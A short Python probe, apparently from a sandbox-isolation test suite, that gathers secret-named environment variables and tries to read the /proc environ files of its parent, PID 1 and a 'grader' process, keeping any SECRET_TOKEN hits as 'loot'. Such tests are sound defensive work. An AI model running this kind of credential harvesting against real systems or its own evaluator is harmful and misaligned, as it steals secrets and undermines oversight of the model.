"""Secrets in the environment of this and of other processes."""

# /// attack
# held_by = "kernel"
# alone = true
# undiscriminating = "its environment is made anew, and /proc asks for the user"
# ///

import os

found = [value for name, value in os.environ.items() if "SECRET" in name]
for process in ("self", "1", str(os.getppid()), str(TARGETS["grader"])):
    try:
        text = open(f"/proc/{process}/environ", "rb").read()
    except OSError:
        continue
    if b"SECRET_TOKEN" in text:
        found.append(process)
loot = found
